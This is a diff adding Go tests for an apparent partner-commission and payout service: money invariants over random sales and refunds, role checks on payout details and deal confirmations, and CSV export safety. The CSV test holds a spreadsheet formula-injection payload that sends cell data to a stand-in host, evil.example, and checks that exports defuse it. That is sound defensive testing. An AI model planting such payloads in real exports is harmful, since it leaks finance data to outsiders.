@@ -11,7 +11,9 @@ package main
 import (
 	"context"
 	"fmt"
+	"math/rand/v2"
 	"net/http"
+	"os"
 	"strings"
 	"testing"
 	"time"
@@ -332,4 +334,206 @@ func TestThreeMonthsOfMoney(t *testing.T) {
 	if late.str("error", "code") != "closes_out_of_order" || !strings.Contains(late.str("error", "message"), m3.Format("2006-01")) {
 		t.Fatalf("an earlier month: %s", late.raw)
 	}
+}
+
+// Random sequences of sales, refunds (partial and full, of open, frozen, carried
+// and paid lines, some while a close waits for sign-off) and closes: after every
+// close the invariants hold, and in the end every partner's lines add up to 10 %
+// of what it sold net of refunds — paid or still owed, never lost nor doubled.
+func TestMoneyInvariantsOverRandomSequences(t *testing.T) {
+	seed := time.Now().UnixNano()
+	if s := os.Getenv("MONEY_SEED"); s != "" {
+		fmt.Sscan(s, &seed)
+	}
+	t.Logf("seed %d (MONEY_SEED=%d reproduces it)", seed, seed)
+	rng := rand.New(rand.NewPCG(uint64(seed), 7))
+	names := []string{"P1", "P2", "P3"}
+	f := newMoneyFixture(t, names...)
+	for i, n := range names {
+		f.payTo(t, n, fmt.Sprintf("acct_prop%06d", i))
+	}
+	type sale struct {
+		ext, partner     string
+		amount, refunded int64 // whole euros
+	}
+	var sales []*sale
+	expected := map[string]int64{} // cents of commission owed, net of refunds
+	refundSome := func(at time.Time) {
+		var open []*sale
+		for _, s := range sales {
+			if s.refunded < s.amount {
+				open = append(open, s)
+			}
+		}
+		if len(open) == 0 {
+			return
+		}
+		s := open[rng.IntN(len(open))]
+		left := (s.amount - s.refunded) / 10
+		amount := int64(10 * (1 + rng.IntN(int(left))))
+		if rng.IntN(3) == 0 {
+			amount = s.amount - s.refunded // the rest, in full
+		}
+		f.refund(t, s.ext, fmt.Sprintf("%d.00", amount), at)
+		s.refunded += amount
+		expected[s.partner] -= amount * 10 // 10 % of the refund, in cents
+	}
+	thisMonth := time.Date(time.Now().UTC().Year(), time.Now().UTC().Month(), 1, 0, 0, 0, 0, time.UTC)
+	for m := 4; m >= 1; m-- {
+		month := thisMonth.AddDate(0, -m, 0)
+		for range 2 + rng.IntN(4) {
+			s := &sale{ext: "s-" + uuid.NewString()[:8], partner: names[rng.IntN(len(names))], amount: int64(10 * (1 + rng.IntN(60)))}
+			r := expect(t, do(t, call{method: "POST", path: "/v1/conversions", key: f.integration, body: map[string]any{"program_id": f.programID, "currency": "EUR",
+				"external_id": s.ext, "kind": "sale", "amount": fmt.Sprintf("%d.00", s.amount), "coupon_code": f.coupons[s.partner],
+				"occurred_at": month.AddDate(0, 0, 4).Format(time.RFC3339)}}), http.StatusCreated)
+			if r.str("partner_id") != f.ids[s.partner] { // flagged or not (a high refund rate holds it), it is the partner's
+				t.Fatalf("sale: %s", r.raw)
+			}
+			sales = append(sales, s)
+			expected[s.partner] += s.amount * 10
+		}
+		for range rng.IntN(3) {
+			refundSome(month.AddDate(0, 0, 19))
+		}
+		id, _ := f.closeMonth(t, month)
+		if rng.IntN(2) == 0 { // a refund while the close waits for sign-off
+			refundSome(time.Now().UTC())
+			if rc := expect(t, do(t, call{method: "GET", path: "/v1/closes/" + id + "/recompute", key: f.finance}), http.StatusOK); rc.body["matches"] != true {
+				t.Fatalf("month %s: recompute after a refund in review: %s", month.Format("2006-01"), rc.raw)
+			}
+		}
+		f.signOff(t, id)
+		checkMoneyInvariants(t, f.programID)
+	}
+	for _, n := range names {
+		var lines, paid, owed int64
+		err := sys.store.Pool.QueryRow(context.Background(), `SELECT
+			coalesce(sum(amount * 100) FILTER (WHERE status <> 'void'), 0)::bigint,
+			(SELECT coalesce(sum(p.amount * 100), 0)::bigint FROM payouts p WHERE p.partner_id = $1 AND p.status = 'paid'),
+			coalesce(sum(amount * 100) FILTER (WHERE status NOT IN ('void', 'paid')), 0)::bigint
+			FROM commission_lines WHERE partner_id = $1`, f.ids[n]).Scan(&lines, &paid, &owed)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if lines != expected[n] || paid+owed != expected[n] {
+			t.Fatalf("%s: lines %d, paid %d + owed %d, want %d cents (seed %d)", n, lines, paid, owed, expected[n], seed)
+		}
+	}
+}
+
+// Who may touch payout details, won confirmations and reversals, and what they refuse.
+func TestMoneyEndpointsAuthorizationAndBadInput(t *testing.T) {
+	f := newMoneyFixture(t, "A", "B")
+	for _, bad := range []map[string]any{
+		{"method": "bank", "holder": "Ana", "iban": "DE89 3704 0044 0532 0130 01"}, // check digits
+		{"method": "bank", "iban": "DE89 3704 0044 0532 0130 00"},                  // no holder
+		{"method": "bank", "holder": "Ana", "iban": "DE89370400440532013000", "bic": "NOTABIC"},
+		{"method": "bank", "holder": "Ana", "iban": "DE89370400440532013000", "email": "a@b.example"},
+		{"method": "paypal", "email": "not-an-email"},
+		{"method": "provider", "account_id": "cus_123"},
+		{"method": "crypto", "account_id": "acct_1234567"},
+		{"method": "provider", "account_id": "acct_1234567", "extra": 1},
+		{"method": "bank", "holder": "An\u0000a", "iban": "DE89370400440532013000"},
+	} {
+		r := do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.keys["A"], body: bad})
+		if r.status != http.StatusUnprocessableEntity {
+			t.Errorf("%v: %d %s", bad, r.status, r.raw)
+		}
+	}
+	if p := do(t, call{method: "GET", path: "/v1/me/payout-details", key: f.keys["A"]}); p.body["method"] != nil {
+		t.Fatalf("bad input was stored: %s", p.raw)
+	}
+	ok := expect(t, do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.keys["A"],
+		body: map[string]any{"method": "bank", "holder": "Ana Silva", "iban": "de89 3704 0044 0532 0130 00", "bic": "cobadeffxxx"}}), http.StatusOK)
+	if ok.str("destination") != domainMask("DE89370400440532013000 COBADEFFXXX") || ok.body["held_for_review"] != false {
+		t.Fatalf("bank details: %s", ok.raw)
+	}
+	// Nobody reads the account back: not the partner, not finance.
+	for _, k := range []string{f.keys["A"], f.finance, f.manager} {
+		path := "/v1/partners/" + f.ids["A"]
+		if k == f.keys["A"] {
+			path = "/v1/me"
+		}
+		if r := expect(t, do(t, call{method: "GET", path: path, key: k}), http.StatusOK); strings.Contains(string(r.raw), "0532013000") {
+			t.Fatalf("the account number is readable: %s", r.raw)
+		}
+	}
+	// Roles: only the partner sets its own; only finance confirms.
+	expect(t, do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.manager, body: map[string]any{"method": "paypal", "email": "x@y.example"}}), http.StatusForbidden)
+	for _, k := range []string{f.keys["B"], f.manager, f.admin} {
+		expect(t, do(t, call{method: "POST", path: "/v1/partners/" + f.ids["A"] + "/payout-details/confirm", key: k}), http.StatusForbidden)
+	}
+	expect(t, do(t, call{method: "POST", path: "/v1/partners/" + uuid.NewString() + "/payout-details/confirm", key: f.finance}), http.StatusNotFound)
+	expect(t, do(t, call{method: "POST", path: "/v1/partners/" + f.ids["B"] + "/payout-details/confirm", key: f.finance}), http.StatusConflict)
+	// A change is audited, told to the partner and held.
+	changed := expect(t, do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.keys["A"], body: map[string]any{"method": "paypal", "email": "Ana@Example.com"}}), http.StatusOK)
+	if changed.body["held_for_review"] != true {
+		t.Fatalf("a change is not held: %s", changed.raw)
+	}
+	if n := countWhere(t, "notifications", "kind = 'payout_details_changed' AND subject_id = '"+f.ids["A"]+"'"); n != 2 {
+		t.Fatalf("%d notifications", n)
+	}
+	if n := countWhere(t, "audit_events", "action = 'partner.set_payout_details' AND record_id = '"+f.ids["A"]+"'"); n != 2 {
+		t.Fatalf("%d audit events", n)
+	}
+
+	// Won confirmations and reversals are the manager's.
+	rID, rKey := activePartner(t, f.fixture, "reseller")
+	_ = rID
+	company, dom := uniqueCompany()
+	deal := expect(t, do(t, call{method: "POST", path: "/v1/deals", key: rKey, body: dealBody(company, dom)}), http.StatusCreated).str("id")
+	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/reverse-margin", key: f.manager, body: map[string]any{"reason": "x"}}), http.StatusConflict)
+	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/approve", key: f.manager, body: map[string]any{}}), http.StatusOK)
+	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/confirm", key: f.manager, body: map[string]any{}}), http.StatusConflict) // nothing reported
+	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won", key: rKey, body: map[string]any{"final_amount": "50000.00"}}), http.StatusOK)
+	for _, k := range []string{rKey, f.finance, f.admin} {
+		expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/confirm", key: k, body: map[string]any{}}), http.StatusForbidden)
+		expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/reverse-margin", key: k, body: map[string]any{"reason": "x"}}), http.StatusForbidden)
+	}
+	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/confirm", key: f.manager, body: map[string]any{"final_amount": "1e15"}}), http.StatusUnprocessableEntity)
+	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/reject", key: f.manager, body: map[string]any{}}), http.StatusUnprocessableEntity)
+	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/confirm", key: f.manager, body: map[string]any{"final_amount": "49000.00"}}), http.StatusOK)
+	// An unfrozen margin is simply voided.
+	rev := expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/reverse-margin", key: f.manager, body: map[string]any{"reason": "cancelled"}}), http.StatusOK)
+	if lines := rev.body["lines"].([]any); len(lines) != 1 || lines[0].(map[string]any)["status"] != "void" {
+		t.Fatalf("reversal of an unfrozen margin: %s", rev.raw)
+	}
+}
+
+func domainMask(s string) string {
+	return strings.Repeat("•", len(s)-4) + s[len(s)-4:]
+}
+
+// CSV exports are formula-safe: what a partner typed cannot become a formula in
+// finance's spreadsheet.
+func TestCSVExportsAreFormulaSafe(t *testing.T) {
+	f := closeProgram(t, "file")
+	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
+	if _, err := sys.store.Pool.Exec(context.Background(), "UPDATE partners SET company = $1 WHERE id = $2", evil, f.a); err != nil {
+		t.Fatal(err)
+	}
+	month := time.Now().UTC().AddDate(0, -1, 0)
+	line(t, f.programID, f.a, "commission", "75.00", time.Date(month.Year(), month.Month(), 3, 0, 0, 0, 0, time.UTC), "payable")
+	id := f.start(t, month.Format("2006-01"), http.StatusCreated).str("id")
+	waitClose(t, f.finance, id, "review")
+	csvResp := expect(t, do(t, call{method: "GET", path: "/v1/closes/" + id + "/statements.csv", key: f.finance}), http.StatusOK)
+	if !strings.Contains(string(csvResp.raw), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`) {
+		t.Fatalf("statements.csv: %s", csvResp.raw)
+	}
+	expect(t, do(t, call{method: "POST", path: "/v1/closes/" + id + "/approve", key: f.finance, body: map[string]any{}}), http.StatusOK)
+	var file string
+	eventually(t, "the payout file", func() bool {
+		r := expect(t, do(t, call{method: "GET", path: "/v1/closes/" + id, key: f.finance}), http.StatusOK)
+		ps, _ := r.body["payouts"].([]any)
+		if len(ps) == 1 && ps[0].(map[string]any)["provider_ref"] != nil {
+			file = ps[0].(map[string]any)["provider_ref"].(string)
+			return true
+		}
+		return false
+	})
+	batch, err := os.ReadFile(file)
+	if err != nil || !strings.Contains(string(batch), `"'=HYPERLINK(`) || strings.Contains(string(batch), `,=HYPERLINK`) {
+		t.Fatalf("payout file: %v %s", err, batch)
+	}
+	expect(t, do(t, call{method: "GET", path: "/v1/closes/" + uuid.NewString() + "/statements.csv", key: f.finance}), http.StatusNotFound)
 }
